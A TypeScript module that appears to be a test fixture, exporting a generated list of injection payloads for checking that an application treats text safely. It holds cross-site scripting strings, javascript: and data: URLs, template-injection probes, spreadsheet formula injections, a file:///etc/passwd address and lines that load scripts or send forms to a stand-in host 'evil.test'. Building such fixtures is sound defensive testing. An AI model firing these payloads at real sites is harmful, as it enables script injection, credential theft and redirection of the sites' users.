/** Script injections: each would run somewhere if the text were interpreted as markup or as an address. */
const events = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onclick', 'onpointerdown', 'onanimationstart', 'ontoggle', 'onbeforeinput', 'onwheel']
const tags = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'iframe', 'object data=x', 'marquee', 'math']
const handlers = events.flatMap((event) => tags.map((tag) => `<${tag} ${event}=evil()>`))

const markup = [
  '<script>evil()</script>', '</script><script>evil()</script>', '<script src=//evil.test></script>', '<ScRiPt>evil()</sCrIpT>', '<scr<script>ipt>evil()</script>', '<script/x>evil()</script>', '<svg><script>evil()</script></svg>',
  '<svg/onload=evil()>', '"><svg/onload=evil()>', "'><svg/onload=evil()>", '`><svg/onload=evil()>', '--><svg/onload=evil()>', ']]><svg/onload=evil()>', '</title><svg/onload=evil()>', '</textarea><svg/onload=evil()>', '</style><svg/onload=evil()>',
  '<iframe srcdoc="<script>evil()</script>">', '<iframe src=javascript:evil()>', '<base href=//evil.test>', '<link rel=stylesheet href=//evil.test>', '<meta http-equiv=refresh content="0;url=//evil.test">', '<form action=//evil.test><button>go',
  '<a href=javascript:evil()>x</a>', '<a href="data:text/html,<script>evil()</script>">x</a>', '<style>*{background:url(//evil.test)}</style>', '<div style="background:url(//evil.test)">', '<template><script>evil()</script></template>',
  '<noscript><p title="</noscript><svg onload=evil()>">', '<math><mi xlink:href=javascript:evil()>', '<x contenteditable onblur=evil()>', '&lt;script&gt;evil()&lt;/script&gt;', '&#60;script&#62;evil()&#60;/script&#62;', '&#x3c;svg/onload=evil()&#x3e;',
  '\\u003cscript\\u003eevil()\\u003c/script\\u003e', '%3Cscript%3Eevil()%3C/script%3E', '＜script＞evil()＜/script＞', '{{constructor.constructor("evil()")()}}', '${evil()}', '#{evil()}', '<%= evil() %>', '{{7*7}}', '[[evil()]]', '$t(evil)', '{{count}}',
]
const addresses = [
  'javascript:evil()', 'JaVaScRiPt:evil()', 'java\tscript:evil()', ' javascript:evil()', 'javascript&colon;evil()', 'javascript://evil.test/%0aevil()', 'vbscript:evil()', 'data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=', 'blob:evil', '//evil.test',
  'https:evil.test', 'https://kontor.test@evil.test', 'https://evil.test\\@kontor.test', 'file:///etc/passwd', 'ws://evil.test', '=HYPERLINK("//evil.test")', '+cmd|calc', '@SUM(1)', '-2+3',
]
export const payloads: readonly string[] = [...markup, ...addresses, ...handlers]
